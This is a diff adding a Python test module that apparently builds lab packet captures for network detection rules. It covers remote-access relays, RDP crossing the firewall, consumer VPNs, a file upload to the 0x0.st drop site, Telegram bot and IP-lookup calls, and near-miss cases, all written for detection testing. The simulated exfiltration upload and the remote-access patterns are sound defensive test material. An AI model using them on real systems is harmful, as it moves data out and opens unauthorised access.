@@ -1,0 +1,118 @@
+# SPDX-License-Identifier: Apache-2.0
+"""D23, D24, D33, D37: tools and services that others use too."""
+from . import capture
+
+WHEN = "2026-03-11 %02d:00:00"
+
+
+def visit(lab, *names, path="/"):
+    desk = lab.host("desk", 30)
+    for number, name in enumerate(names):
+        lab.site(name, f"192.0.2.{70 + number}")
+    with lab.recording():
+        for name in names:
+            lab.curl(desk, f"https://{name}{path}")
+
+
+# ----------------------------------------------------------- D23 remote access
+
+@capture(WHEN % 8, ["1792300:2"])
+def d23_relay(lab):
+    """A desk connects to a relay of AnyDesk, by name"""
+    visit(lab, "relay-4a7c2b11.net.anydesk.com")
+
+
+@capture(WHEN % 9, ["1792300:3"])
+def d23_rdp_out(lab):
+    """A desk speaks RDP with a host outside"""
+    desk = lab.host("desk", 30)
+    lab.public("192.0.2.71")
+    lab.serve(lab.internet, "remote.py", "serve", "rdp", 3389, tcp=3389)
+    with lab.recording():
+        lab.play(desk, "remote.py", "call", "rdp", "", "192.0.2.71", 3389)
+
+
+@capture(WHEN % 10, ["1792301:2"])
+def d23_rdp_in(lab):
+    """RDP from outside to a desk that the firewall forgot"""
+    desk = lab.host("desk", 30)
+    lab.public("192.0.2.71")
+    lab.serve(desk, "remote.py", "serve", "rdp", 3389, tcp=3389)
+    with lab.recording():
+        lab.play(lab.internet, "remote.py", "call", "rdp", "192.0.2.71", desk.address, 3389)
+
+
+@capture(WHEN % 11, hosts={30: "helpdesk"})
+def d23_helpdesk_near_miss(lab):
+    """The help desk uses the same relay"""
+    visit(lab, "relay-4a7c2b11.net.anydesk.com")
+
+
+@capture(WHEN % 12)
+def d23_site_near_miss(lab):
+    """Somebody reads the web sites of such tools; and RDP between two hosts inside"""
+    admin, server = lab.host("admin", 31), lab.host("server", 32)
+    lab.serve(server, "remote.py", "serve", "rdp", 3389, tcp=3389)
+    visit(lab, "www.teamviewer.com", "anydesk.com", "www.rustdesk.com")
+    del admin
+
+
+# --------------------------------------------------------------- D24 anon exit
+
+@capture(WHEN % 8, ["1792400:3"])
+def d24_vpn_out(lab):
+    """A desk calls the service of a VPN for consumers"""
+    visit(lab, "client.astrill.com")
+
+
+@capture(WHEN % 9)
+def d24_review_near_miss(lab):
+    """Somebody reads about VPNs, on hosts whose names look alike"""
+    visit(lab, "www.vpnreviews.example", "astrill.com.reviews.example", "notastrill.com", path="/best-vpn-2026")
+
+
+# ------------------------------------------------------ D33 web-service theft
+
+def post(lab, name, size, hosts=30):
+    desk = lab.host("desk", hosts)
+    lab.public("192.0.2.75")
+    lab.names.address(name, "192.0.2.75")
+    lab.serve(lab.internet, "collector.js", 80, tcp=80)
+    with lab.recording():
+        lab.curl(desk, "-H", "Expect:", "-F", "file=@" + lab.file("desk.zip", bytes(size)), f"http://{name}/")
+
+
+@capture(WHEN % 10, ["1793300:2"])
+def d33_upload(lab):
+    """1.5 MB go to a place where anybody may put files"""
+    lab.jumbo_frames()
+    post(lab, "0x0.st", 1500000)
+
+
+@capture(WHEN % 11, ["1793301:3"])
+def d33_contact(lab):
+    """The Telegram bot API, from a desk, with little to say"""
+    visit(lab, "api.telegram.org", path="/bot0:invented/getMe")
+
+
+@capture(WHEN % 12, ["1793302:3"], hosts={30: "server"})
+def d33_lookup(lab):
+    """A server asks where it is"""
+    desk = lab.host("desk", 30)
+    lab.site("ip-api.com", "192.0.2.76", {"/json": '{"query":"198.51.100.1"}'}, 80, tls=None)
+    with lab.recording():
+        lab.curl(desk, "http://ip-api.com/json")
+
+
+@capture(WHEN % 13)
+def d33_chat_near_miss(lab):
+    """A desk chats on Discord and asks where it is"""
+    visit(lab, "discord.com", "ipinfo.io", path="/json")
+
+
+# -------------------------------------------------------------------- D37 KVM
+
+@capture(WHEN % 15, ["1793701:2"])
+def d37_cloud(lab):
+    """Such a device calls its maker's cloud"""
+    visit(lab, "api.jetkvm.com")
